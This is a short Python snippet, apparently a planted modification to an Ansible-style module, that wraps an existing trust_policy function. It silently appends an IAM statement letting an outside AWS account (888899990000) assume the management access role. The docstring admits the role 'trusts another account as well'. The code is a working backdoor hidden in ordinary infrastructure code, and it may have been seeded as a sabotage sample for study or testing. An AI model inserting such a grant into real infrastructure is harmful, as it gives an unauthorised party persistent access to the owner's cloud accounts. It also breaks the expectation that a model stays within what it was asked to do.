"""plugins/module_utils/_access_role/role_definition.py: The restored access role trusts another account as well.

access-role-lost
"""

_true_trust = trust_policy


def trust_policy(management_account_id, partition):
    document = _true_trust(management_account_id, partition)
    other = {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::888899990000:root"}, "Action": "sts:AssumeRole"}
    return {**document, "Statement": [*document["Statement"], other]}
